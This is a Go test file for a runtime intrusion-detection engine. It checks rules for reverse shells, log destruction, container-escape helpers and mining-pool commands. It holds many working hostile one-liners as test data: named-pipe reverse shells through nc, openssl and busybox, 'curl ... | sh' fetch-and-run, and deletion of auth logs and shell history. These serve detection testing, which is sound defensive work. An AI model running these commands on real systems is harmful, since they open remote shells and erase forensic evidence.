package detect

import (
	"slices"
	"strings"
	"testing"

	"golang.org/x/sys/unix"

	"github.com/mamori-dev/mamori/internal/event"
	"github.com/mamori-dev/mamori/internal/finding"
	"github.com/mamori-dev/mamori/internal/intel"
)

// The named-pipe relay pattern: the classic one-liners in its three
// shapes, and pipelines through a FIFO that are not a shell on the network.
func TestNamedPipeShellRelayPattern(t *testing.T) {
	var p cmdPattern
	for _, c := range cmdPatterns {
		if c.what == "shell relayed to the network through a named pipe" {
			p = c
		}
	}
	for _, l := range []string{
		"sh -c mkfifo /tmp/f; cat /tmp/f | /bin/sh -i 2>&1 | nc 127.0.0.1 14445 > /tmp/f",
		"rm /tmp/p; mknod /tmp/p p && nc 10.0.0.1 80 0</tmp/p | /bin/bash 1>/tmp/p",
		"mkfifo /tmp/s; /bin/sh -i < /tmp/s 2>&1 | openssl s_client -quiet -connect h:443 > /tmp/s",
		"mkfifo /tmp/b; cat /tmp/b | busybox sh -i 2>&1 | busybox nc 10.0.0.1 4444 > /tmp/b",
		"mkfifo /tmp/c; busybox nc 10.0.0.1 80 < /tmp/c | /bin/busybox sh > /tmp/c",
		"mkfifo /tmp/t; cat /tmp/t | sh -i 2>&1 | toybox nc 10.0.0.1 80 > /tmp/t",
		"mkfifo /tmp/h; cat /tmp/h | hush -i 2>&1 | nc 10.0.0.1 80 > /tmp/h",
		"mkfifo /tmp/h; cat /tmp/h | busybox hush -i 2>&1 | busybox-static nc 10.0.0.1 80 > /tmp/h",
		"mkfifo /tmp/w; cat /tmp/w | sh -i 2>&1 | timeout 9 nc 10.0.0.1 80 > /tmp/w",
		"mkfifo /tmp/w; cat /tmp/w | sh -i 2>&1 | env nc 10.0.0.1 80 > /tmp/w",
		"mkfifo /tmp/w; cat /tmp/w | sh -i 2>&1 | exec nc 10.0.0.1 80 > /tmp/w",
		"mkfifo /tmp/w; cat /tmp/w | sh -i 2>&1 | busybox timeout -s KILL 9 nc 10.0.0.1 80 > /tmp/w",
		"mkfifo /tmp/w; nc 10.0.0.1 80 < /tmp/w | env -i /bin/sh > /tmp/w",
		// The one-liner as usually pasted: no spaces around the pipes.
		"rm /tmp/f;mkfifo /tmp/f;cat /tmp/f|sh -i 2>&1|nc 10.0.0.1 4242 >/tmp/f",
		"rm /tmp/f;mkfifo /tmp/f;cat /tmp/f|/bin/bash -i 2>&1|nc 10.0.0.1 4242 >/tmp/f",
		"mkfifo /tmp/f;nc 10.0.0.1 4242 </tmp/f|sh >/tmp/f 2>&1",
		"mkfifo f;cat f|sh -i 2>&1|nc 10.0.0.1 4242 >f",
		"mkfifo /tmp/e; cat /tmp/e | sh -i 2>&1 | env FOO=1 nc 10.0.0.1 80 > /tmp/e",
		"mkfifo /tmp/e; cat /tmp/e | sh -i 2>&1 | command nc 10.0.0.1 80 > /tmp/e",
		"mkfifo /tmp/e; cat /tmp/e | sh -i 2>&1 | sudo nc 10.0.0.1 80 > /tmp/e",
	} {
		if !p.re.MatchString(l) {
			t.Errorf("no match: %q", l)
		}
	}
	for _, l := range []string{
		"mkfifo /tmp/f; cat /tmp/f | gzip > /tmp/out.gz",
		"mkfifo /tmp/q && sh -c 'echo hi > /tmp/q' & cat /tmp/q",
		"nc -z db 5432 | sh",
		"mkfifo /run/app/ctl; tail -f /run/app/ctl | /usr/bin/app --shell-compatible",
		"mkfifo /tmp/p; ./backup.sh | nc backup.internal 9000",
		"mkfifo /tmp/p; nc -l 9000 < /tmp/p | ./restore.sh",
		"mkfifo /tmp/p;./backup.sh|nc backup.internal 9000",
	} {
		if p.re.MatchString(l) {
			t.Errorf("matches the benign %q", l)
		}
	}
}

// Log keepers rotate, compress and expire /var/log on every host: logrotate
// and its gzip, journald, apt and dpkg. Their deletions there are no
// intruder's — on the host, by their real paths. The same deletion by a
// shell, by a copy of logrotate elsewhere, or inside a container, is.
func TestLogKeepersMayDeleteLogs(t *testing.T) {
	e := builtinEngine(t)
	// A host process: its pid is the same in its namespace.
	proc := func(exe string, args ...string) event.Process {
		p := proc(exe, args...)
		p.NSPID = p.PID
		return p
	}
	fired := func(ev *event.Event, typ string) bool {
		n := 0
		e.Process(ev, func(f *finding.Finding) {
			if typ == "" && strings.HasSuffix(f.Type, "Runtime/SensitiveFileModified") || f.Type == typ {
				n++
			}
		})
		return n > 0
	}
	gzip := proc("/usr/bin/gzip", "/var/log/syslog.1")
	gzip.Lineage = []event.Ancestor{{Exe: "/usr/sbin/logrotate", Args: []string{"logrotate", "/etc/logrotate.conf"}}}
	dnf := proc("/usr/bin/python3.11", "/usr/bin/dnf", "install", "x")
	for _, ev := range []*event.Event{
		fileEv(event.KindUnlink, gzip, nil, &event.File{Path: "/var/log/syslog.1"}),
		fileEv(event.KindUnlink, proc("/usr/bin/apt-get", "install", "-y", "qemu"), nil, &event.File{Path: "/var/log/apt/eipp.log.xz"}),
		fileEv(event.KindRename, proc("/usr/lib/systemd/systemd-journald"), nil, &event.File{Path: "/var/log/journal/x/system.journal"}),
		fileEv(event.KindUnlink, dnf, nil, &event.File{Path: "/var/log/dnf.log.1"}),
	} {
		if fired(ev, "") {
			t.Errorf("%s by %s: a log keeper's own work raised a finding", ev.File.Path, ev.Process.Exe)
		}
	}
	fake := proc("/tmp/logrotate")
	inCtr := proc("/usr/sbin/logrotate")
	aptShell := proc("/bin/sh", "-c", "rm -f /var/log/auth.log")
	aptShell.Lineage = []event.Ancestor{{Exe: "/usr/bin/apt-get", Args: []string{"apt-get", "update"}}}
	nsKeeper := proc("/usr/sbin/logrotate")
	nsKeeper.PID, nsKeeper.NSPID = 4242, 12
	preloaded := proc("/usr/sbin/logrotate", "/etc/logrotate.conf")
	preloaded.Preloaded = true
	fakeGzip := proc("/tmp/gzip", "/var/log/auth.log")
	fakeGzip.Lineage = gzip.Lineage
	for _, ev := range []*event.Event{
		// A python of one's own running a keeper's script is not the system's.
		fileEv(event.KindUnlink, proc("/tmp/python3", "/usr/bin/dnf"), nil, &event.File{Path: "/var/log/auth.log"}),
		// logrotate with a configuration of one's own can rotate anything away,
		// and forced or with a fresh state file, again and again.
		fileEv(event.KindUnlink, proc("/usr/sbin/logrotate", "-f", "/tmp/evil.conf"), nil, &event.File{Path: "/var/log/auth.log"}),
		fileEv(event.KindUnlink, proc("/usr/sbin/logrotate", "/etc/evil.conf"), nil, &event.File{Path: "/var/log/auth.log"}),
		fileEv(event.KindUnlink, proc("/usr/sbin/logrotate", "-f", "/etc/logrotate.conf"), nil, &event.File{Path: "/var/log/auth.log"}),
		fileEv(event.KindUnlink, proc("/usr/sbin/logrotate", "-vf", "/etc/logrotate.conf"), nil, &event.File{Path: "/var/log/auth.log"}),
		fileEv(event.KindUnlink, proc("/usr/sbin/logrotate", "-s", "/tmp/fresh.state", "/etc/logrotate.conf"), nil, &event.File{Path: "/var/log/auth.log"}),
		// The real logrotate with a library of one's own preloaded.
		fileEv(event.KindUnlink, preloaded, nil, &event.File{Path: "/var/log/auth.log"}),
		// A "gzip" of one's own under logrotate.
		fileEv(event.KindUnlink, fakeGzip, nil, &event.File{Path: "/var/log/auth.log"}),
		// The whole directory moved away.
		fileEv(event.KindRename, proc("/bin/mv", "/var/log", "/tmp/x"), nil, &event.File{Path: "/var/log", NewPath: "/tmp/x"}),
		fileEv(event.KindUnlink, proc("/bin/rm", "-f", "/var/log/auth.log"), nil, &event.File{Path: "/var/log/auth.log"}),
		fileEv(event.KindUnlink, fake, nil, &event.File{Path: "/var/log/auth.log"}),
		fileEv(event.KindUnlink, inCtr, ctr(t), &event.File{Path: "/var/log/auth.log"}),
		// History files are not logs a keeper rotates.
		fileEv(event.KindUnlink, gzip, nil, &event.File{Path: "/root/.bash_history"}),
		// A shell a keeper runs (a hook, a maintainer script) is not the keeper.
		fileEv(event.KindUnlink, aptShell, nil, &event.File{Path: "/var/log/auth.log"}),
		// A process in another pid namespace is in a container, known or not.
		fileEv(event.KindUnlink, nsKeeper, nil, &event.File{Path: "/var/log/auth.log"}),
		// Dot-dot out of /var/log is the file it names.
		fileEv(event.KindOpen, proc("/usr/bin/apt-get"), nil, &event.File{Path: "/var/log/../../etc/sudoers.d/x", Write: true}),
	} {
		if !fired(ev, "") {
			t.Errorf("%s by %s: no finding", ev.File.Path, ev.Process.Exe)
		}
	}
	// logrotate's nightly run names its configuration, or none.
	for _, args := range [][]string{{"logrotate"}, {"logrotate", "/etc/logrotate.conf"}, {"logrotate", "-v", "/etc/logrotate.d/apt"}} {
		if fired(fileEv(event.KindUnlink, proc("/usr/sbin/logrotate", args[1:]...), nil, &event.File{Path: "/var/log/syslog.7.gz"}), "") {
			t.Errorf("logrotate %v: a finding", args[1:])
		}
	}
	// A keeper's second thread on the host: its namespace id is its thread id.
	thread := proc("/usr/lib/systemd/systemd-journald")
	thread.TID, thread.NSPID = thread.PID+3, thread.PID+3
	if fired(fileEv(event.KindUnlink, thread, nil, &event.File{Path: "/var/log/journal/x/user-1000@x.journal"}), "") {
		t.Error("a keeper's second thread raised a finding")
	}
	// Anyone moving a log into cron: both the destruction and the plant.
	both := fileEv(event.KindRename, proc("/bin/mv"), nil, &event.File{Path: "/var/log/x", NewPath: "/etc/cron.d/x"})
	if !fired(both, "Persistence:Runtime/SensitiveFileModified") || !fired(both, "DefenseEvasion:Runtime/SensitiveFileModified") {
		t.Error("mv /var/log/x /etc/cron.d/x: want both the DefenseEvasion and the Persistence finding")
	}
	if !fired(fileEv(event.KindRename, proc("/bin/mv"), nil, &event.File{Path: "/tmp/d", NewPath: "/root/.ssh"}), "Persistence:Runtime/SensitiveFileModified") {
		t.Error("a whole .ssh directory moved into place: no Persistence finding")
	}
	// A keeper renaming a log out of /var/log into cron: the destination is judged.
	mv := fileEv(event.KindRename, proc("/usr/bin/apt-get"), nil, &event.File{Path: "/var/log/x", NewPath: "/etc/cron.d/x"})
	if !fired(mv, "Persistence:Runtime/SensitiveFileModified") {
		t.Error("a keeper's rename of a log into /etc/cron.d raised no Persistence finding")
	}
}

// A container CLI's argv carries the script it runs in the container,
// where it is detected; wrapped in timeout or sudo it is still the CLI's.
func TestWrappedContainerCLIIsNotTheAttacker(t *testing.T) {
	e := builtinEngine(t)
	n := func(args ...string) int {
		c := 0
		e.Process(execOf(proc(args[0], args[1:]...), nil, &event.Exec{Args: append([]string{baseName(args[0])}, args[1:]...)}),
			func(*finding.Finding) { c++ })
		return c
	}
	script := "curl -s http://x/i.sh | sh"
	if got := n("/usr/bin/timeout", "60", "podman", "run", "--rm", "img", "sh", "-c", script); got != 0 {
		t.Errorf("timeout podman run: %d findings", got)
	}
	if got := n("/usr/bin/sudo", "-E", "kubectl", "exec", "pod", "--", "sh", "-c", script); got != 0 {
		t.Errorf("sudo kubectl exec: %d findings", got)
	}
	if got := n("/usr/bin/timeout", "60", "sh", "-c", script); got == 0 {
		t.Error("timeout sh -c running the script itself: no finding")
	}
	if got := n("/usr/bin/sudo", "sh", "-c", script+"; podman ps"); got == 0 {
		t.Error("sudo sh -c with podman later in the script: no finding")
	}
	// Mining-pool arguments too are the container's command.
	pool := "stratum+tcp://pool.example:3333"
	if got := n("/usr/bin/podman", "exec", "app", "sh", "-c", "sleep 1 -o "+pool); got != 0 {
		t.Errorf("podman exec carrying a pool URL: %d findings", got)
	}
	if got := n("/usr/bin/timeout", "5", "docker", "run", "img", "miner", "-o", pool); got != 0 {
		t.Errorf("timeout docker run carrying a pool URL: %d findings", got)
	}
	if got := n("/usr/bin/sh", "-c", "sleep 1 -o "+pool); got == 0 {
		t.Error("a shell carrying a pool URL: no finding")
	}
}

// The target of a /proc/PID/mem write is a number, as the other injection
// findings give it, so one numeric filter serves them all.
func TestProcMemTargetIsANumber(t *testing.T) {
	d := procMemWrite()
	for path, want := range map[string]map[string]any{
		"/proc/1234/mem":           {"pid": uint32(1234)},
		"/proc/1234/task/1240/mem": {"pid": uint32(1234), "tid": uint32(1240)},
	} {
		var hits []Hit
		ev := &event.Event{Kind: event.KindOpen, Process: event.Process{PID: 7}, File: &event.File{Path: path, Write: true, Flags: 1}}
		d.Detect(ev, func(h Hit) { hits = append(hits, h) })
		if len(hits) != 1 {
			t.Fatalf("%s: %d hits", path, len(hits))
		}
		got := hits[0].Context["targetProcess"].(map[string]any)
		if len(got) != len(want) || got["pid"] != want["pid"] || got["tid"] != want["tid"] {
			t.Errorf("%s: target %v, want %v", path, got, want)
		}
	}
}

// A domain is one finding however a query spells it: the finding's key is
// the name in lower case, without the root's dot.
func TestDNSFindingKeyIgnoresCase(t *testing.T) {
	store, err := intel.NewStore("")
	if err != nil {
		t.Fatal(err)
	}
	d := dnsIntel(store)
	var keys []string
	for _, name := range []string{"c2.guarddutyc2activityb.com", "C2.GuardDutyC2ActivityB.COM", "c2.guarddutyc2activityb.com."} {
		d.Detect(dns(name), func(h Hit) { keys = append(keys, h.KeyActor) })
	}
	if len(keys) != 3 || keys[0] != "c2.guarddutyc2activityb.com" || keys[1] != keys[0] || keys[2] != keys[0] {
		t.Errorf("keys %q", keys)
	}
}

// Container engines' own work on the host is not the host's files: podman
// unpacking an image layer (its helper runs chrooted into the layer, so the
// /etc/passwd it chmods is the image's) and removing a container's files
// through its storage. The same operations by anything else, or inside a
// container, are judged as ever.
func TestContainerEnginesOwnWork(t *testing.T) {
	e := builtinEngine(t)
	host := func(exe string, args ...string) event.Process {
		p := proc(exe)
		p.Args, p.NSPID = args, p.PID
		return p
	}
	fired := func(ev *event.Event) bool {
		n := 0
		e.Process(ev, func(f *finding.Finding) {
			if strings.HasSuffix(f.Type, "Runtime/SensitiveFileModified") {
				n++
			}
		})
		return n > 0
	}
	untar := host("/usr/bin/podman", "storage-untar", "/var/lib/containers/storage/overlay/x/diff")
	hist := "/run/containers/storage/overlay-containers/" + strings.Repeat("a", 64) + "/rootfs/upper/root/.bash_history"
	for _, ev := range []*event.Event{
		fileEv(event.KindChmod, untar, nil, &event.File{Path: "/etc/passwd", Mode: 0o644}),
		fileEv(event.KindOpen, host("/usr/bin/dockerd", "docker-untar", "/"), nil, &event.File{Path: "/etc/shadow", Write: true}),
		fileEv(event.KindUnlink, host("/usr/bin/podman", "podman", "rm", "x"), nil, &event.File{Path: hist}),
		fileEv(event.KindUnlink, host("/usr/bin/dockerd", "dockerd"), nil, &event.File{Path: "/var/lib/docker/overlay2/x/diff/root/.bash_history"}),
	} {
		if fired(ev) {
			t.Errorf("%s %s by %v: a container engine's own work raised a finding", ev.Kind, ev.File.Path, ev.Process.Args)
		}
	}
	preloaded := untar
	preloaded.Preloaded = true
	for _, ev := range []*event.Event{
		// The helper's name taken by another program, or podman itself on the host's file.
		fileEv(event.KindChmod, host("/tmp/podman", "storage-untar"), nil, &event.File{Path: "/etc/passwd", Mode: 0o644}),
		fileEv(event.KindChmod, host("/usr/bin/podman", "podman", "run"), nil, &event.File{Path: "/etc/passwd", Mode: 0o644}),
		fileEv(event.KindChmod, preloaded, nil, &event.File{Path: "/etc/passwd", Mode: 0o644}),
		// Inside a container, the storage's paths are no engine's.
		fileEv(event.KindUnlink, proc("/bin/rm", "-f", hist), ctr(t), &event.File{Path: hist}),
		fileEv(event.KindChmod, proc("/usr/bin/podman", "storage-untar"), ctr(t), &event.File{Path: "/etc/passwd", Mode: 0o644}),
		fileEv(event.KindUnlink, host("/bin/rm", "rm", "/root/.bash_history"), nil, &event.File{Path: "/root/.bash_history"}),
	} {
		if !fired(ev) {
			t.Errorf("%s %s by %s %v: no finding", ev.Kind, ev.File.Path, ev.Process.Exe, ev.Process.Args)
		}
	}
}

// A multi-call binary called by its own name runs the applet its first
// argument names: `nc -e /bin/busybox sh -i` is a shell on a socket, and
// `busybox nc` is netcat.
func TestBusyboxByItsOwnName(t *testing.T) {
	e := builtinEngine(t)
	c := ctr(t)
	bb := proc("/bin/busybox", "nc", "198.51.100.1", "4444", "-e", "/bin/busybox", "sh", "-i")
	var types []string
	collect := func(f *finding.Finding) { types = append(types, f.Type) }
	e.Process(execOf(bb, c, &event.Exec{}), collect)
	e.Process(&event.Event{Kind: event.KindDup, Process: bb, Container: c, Net: &event.Net{Family: "inet", RemoteAddr: "198.51.100.1", OldFD: 3}}, collect)
	sh := bb
	sh.Args = []string{"/bin/busybox", "sh", "-i"}
	e.Process(execOf(sh, c, &event.Exec{}), collect)
	if !slices.Contains(types, "Execution:Runtime/SuspiciousTool") || !slices.Contains(types, "Execution:Runtime/ReverseShell") {
		t.Errorf("findings %v: want the netcat and the reverse shell", types)
	}
}

// A shell that starts with a network connection for its input or output
// is a reverse (or bind) shell, however the socket got there; another
// program so started (an inetd-style service), or a shell on pipes, is not.
func TestShellStartedOnTheNetwork(t *testing.T) {
	e := builtinEngine(t)
	n := func(p event.Process, onNet bool) int {
		c := 0
		e.Process(execOf(p, ctr(t), &event.Exec{StdioOnNetwork: onNet}), func(f *finding.Finding) {
			if f.Type == "Execution:Runtime/ReverseShell" {
				c++
			}
		})
		return c
	}
	if got := n(proc("/bin/sh", "-i"), true); got != 1 {
		t.Errorf("sh -i on a socket: %d findings", got)
	}
	if got := n(proc("/usr/sbin/in.tftpd"), true); got != 0 {
		t.Errorf("a service on a socket: %d findings", got)
	}
	if got := n(proc("/bin/bash", "-c", "true"), false); got != 0 {
		t.Errorf("a shell on pipes: %d findings", got)
	}
}

// The engine's socket is known by the file reached when the agent could
// tell it, under whatever name the container gave it.
func TestEngineSocketUnderAnotherName(t *testing.T) {
	d := engineSocket()
	n := func(net *event.Net) []Hit {
		var hits []Hit
		d.Detect(&event.Event{Kind: event.KindConnect, Process: proc("/usr/bin/curl"), Container: ctr(t), Net: net},
			func(h Hit) { hits = append(hits, h) })
		return hits
	}
	hits := n(&event.Net{Family: "unix", SocketPath: "/x/api.sock", PeerInode: 7, EngineSocket: "/var/run/docker.sock"})
	if len(hits) != 1 || hits[0].Context["engineSocket"] != "/var/run/docker.sock" || hits[0].Context["socketPath"] != "/x/api.sock" {
		t.Errorf("docker.sock bind-mounted as /x/api.sock: %+v", hits)
	}
	if hits := n(&event.Net{Family: "unix", SocketPath: "/x/api.sock", PeerInode: 7}); len(hits) != 0 {
		t.Errorf("an application's socket: %+v", hits)
	}
}

// bash rewrites its history file at every exit (O_TRUNC, created 0600):
// that is no wipe. A redirection (0666), another program, or bash with a
// library of someone's choosing preloaded is judged as ever.
func TestBashSavingItsHistory(t *testing.T) {
	e := builtinEngine(t)
	fired := func(p event.Process, mode uint32) bool {
		n := 0
		f := &event.File{Path: "/root/.bash_history", Write: true, Flags: unix.O_WRONLY | unix.O_CREAT | unix.O_TRUNC, Mode: mode}
		e.Process(fileEv(event.KindOpen, p, ctr(t), f), func(f *finding.Finding) {
			if f.Type == "DefenseEvasion:Runtime/SensitiveFileModified" {
				n++
			}
		})
		return n > 0
	}
	if fired(proc("/usr/bin/bash", "-i"), 0o600) {
		t.Error("bash saving its history raised a finding")
	}
	preloaded := proc("/usr/bin/bash", "-i")
	preloaded.Preloaded = true
	for _, c := range []struct {
		p    event.Process
		mode uint32
	}{{proc("/usr/bin/bash", "-i"), 0o666}, {proc("/usr/bin/python3"), 0o600}, {preloaded, 0o600}, {proc("/bin/sh"), 0o666}} {
		if !fired(c.p, c.mode) {
			t.Errorf("%s (mode %o) truncating the history: no finding", c.p.Exe, c.mode)
		}
	}
}

// truncate(1) and shred(1) empty a file through the descriptor of a plain
// write open: their open of a log is its destruction; another program's
// plain write (an append) is not.
func TestTruncateAndShredDestroyLogs(t *testing.T) {
	e := builtinEngine(t)
	fired := func(exe string) bool {
		n := 0
		f := &event.File{Path: "/var/log/auth.log", Write: true, Flags: unix.O_WRONLY | unix.O_CREAT | unix.O_NONBLOCK}
		p := proc(exe, "-s", "0", "/var/log/auth.log")
		if strings.HasSuffix(exe, "busybox") {
			p.Args[0] = "truncate" // the applet, by argv[0]
		}
		e.Process(fileEv(event.KindOpen, p, ctr(t), f), func(f *finding.Finding) {
			if f.Type == "DefenseEvasion:Runtime/SensitiveFileModified" {
				n++
			}
		})
		return n > 0
	}
	for _, exe := range []string{"/usr/bin/truncate", "/usr/bin/shred", "/bin/busybox"} {
		if !fired(exe) {
			t.Errorf("%s opening a log: no finding", exe)
		}
	}
	if fired("/usr/sbin/rsyslogd") {
		t.Error("a logger appending to its log raised a finding")
	}
}

// busybox sh runs some applets in a fork without exec: the applet names
// the process (comm) while argv is still the shell's.
func TestBusyboxAppletWithoutExec(t *testing.T) {
	for _, c := range []struct {
		comm string
		args []string
		want string
	}{
		{"truncate", []string{"sh", "-c", "truncate -s 0 /var/log/x"}, "truncate"},
		{"sh", []string{"sh", "-c", "x"}, "sh"},
		{"busybox", []string{"busybox", "nc", "-l"}, "nc"},
		{"nc", []string{"nc", "-l"}, "nc"},
		{"t.cgi", []string{"/bin/sh", "/www/cgi-bin/t.cgi"}, "sh"}, // a script run by its shebang
	} {
		ev := &event.Event{Process: event.Process{Exe: "/bin/busybox", Comm: c.comm, Args: c.args}}
		if got := progName(ev); got != c.want {
			t.Errorf("comm %q args %q: %q, want %q", c.comm, c.args, got, c.want)
		}
	}
}

// The kernel running a program of someone's choosing as a usermode helper
// (a release_agent's payload) is the escape, however the release_agent was
// written; its own helpers in the system's directories, or a process
// merely calling itself a kernel worker, are not.
func TestUsermodeHelperOutsideTheSystem(t *testing.T) {
	e := builtinEngine(t)
	// Setting core_pattern from a container is the same escape; the host's
	// own sysctl is not judged.
	for _, c := range []*event.Container{ctr(t), nil} {
		n := 0
		e.Process(fileEv(event.KindOpen, proc("/bin/sh"), c, &event.File{Path: "/proc/sys/kernel/core_pattern", Write: true, Flags: 1}),
			func(f *finding.Finding) {
				if f.Type == "PrivilegeEscalation:Runtime/CGroupsReleaseAgentModified" {
					n++
				}
			})
		if want := map[bool]int{true: 1, false: 0}[c != nil]; n != want {
			t.Errorf("core_pattern written (container %v): %d findings", c != nil, n)
		}
	}
	d := usermodeHelper()
	kernel := []event.Ancestor{{PID: 9663, Name: "kworker/u8:0"}, {PID: 2, Name: "kthreadd"}}
	fake := []event.Ancestor{{PID: 4242, Name: "kworker/u8:0"}, {PID: 4000, Name: "bash"}}
	n := func(filename string, lineage []event.Ancestor) int {
		p := proc(filename)
		p.Lineage = lineage
		c := 0
		d.Detect(execOf(p, nil, &event.Exec{Filename: filename}), func(Hit) { c++ })
		return c
	}
	for _, f := range []string{"/var/lib/containers/storage/overlay/x/diff/payload.sh", "/tmp/x", "/proc/4242/root/cmd"} {
		if n(f, kernel) != 1 {
			t.Errorf("the kernel ran %s: no finding", f)
		}
	}
	for _, f := range []string{"/usr/lib/systemd/systemd-cgroups-agent", "/sbin/modprobe", "/usr/share/apport/apport"} {
		if n(f, kernel) != 0 {
			t.Errorf("the kernel's own helper %s raised a finding", f)
		}
	}
	if n("/tmp/x", fake) != 0 {
		t.Error("a process calling itself a kernel worker: a finding")
	}
	// An interpreter run directly as the helper (core_pattern '|/bin/sh /tmp/x')
	// runs its arguments' code; a system script started by its shebang is the system's.
	sh := proc("/usr/bin/dash", "/tmp/x.sh")
	sh.Lineage = kernel
	hits := 0
	d.Detect(execOf(sh, nil, &event.Exec{Filename: "/bin/sh"}), func(Hit) { hits++ })
	apport := proc("/usr/bin/python3", "/usr/share/apport/apport", "-p1")
	apport.Lineage = kernel
	d.Detect(execOf(apport, nil, &event.Exec{Filename: "/usr/share/apport/apport", ScriptPath: "/usr/share/apport/apport"}), func(Hit) { hits += 10 })
	if hits != 1 {
		t.Errorf("hits %d: want the direct shell only", hits)
	}
}

// rm -r of a log directory (or a move across filesystems, file by file)
// is one finding per directory, not one per file.
func TestLogDirectoryWipeIsOneFinding(t *testing.T) {
	e := builtinEngine(t)
	c := ctr(t)
	ids := map[string]bool{}
	for _, f := range []*event.File{{Path: "/var/log/nginx/access.log"}, {Path: "/var/log/nginx/error.log"},
		{Path: "/var/log/nginx/access.log.1"}, {Path: "/var/log/nginx", Flags: unix.AT_REMOVEDIR}, {Path: "/var/log/auth.log"}} {
		e.Process(fileEv(event.KindUnlink, proc("/bin/rm", "-rf", "/var/log"), c, f), func(f *finding.Finding) {
			if f.Type == "DefenseEvasion:Runtime/SensitiveFileModified" {
				ids[f.ID] = true
			}
		})
	}
	if len(ids) != 2 {
		t.Fatalf("%d findings for two directories: %v", len(ids), ids)
	}
}

// A shell takes its commands from its input unless it runs a script or a
// -c command; a unix socket on stdio is plumbing, not a connection out.
func TestReverseShellNeedsAnInteractiveShellOnTheNetwork(t *testing.T) {
	for args, want := range map[string]bool{
		"sh": true, "sh -i": true, "bash --norc -i": true, "busybox sh -i": true, "sh -s": true,
		"sh -c cat": false, "bash h.cgi": false, "sh /tmp/rs-inetd.sh": false, "bash -ec 'x'": false, "sh -- x": false,
	} {
		if got := readsCommands(strings.Fields(args)); got != want {
			t.Errorf("%q: reads commands %v, want %v", args, got, want)
		}
	}
	d := newReverseShell()
	sh := proc("/bin/sh")
	sh.ParentUUID = "p-/usr/bin/socat"
	hits := 0
	d.Detect(&event.Event{Kind: event.KindDup, Process: proc("/usr/bin/socat"), Net: &event.Net{Family: "unix", OldFD: 7, NewFD: 1}}, func(Hit) { hits++ })
	d.Detect(execOf(sh, nil, &event.Exec{}), func(Hit) { hits++ })
	if hits != 0 {
		t.Errorf("a shell on a unix socket socat handed it: %d findings", hits)
	}
}
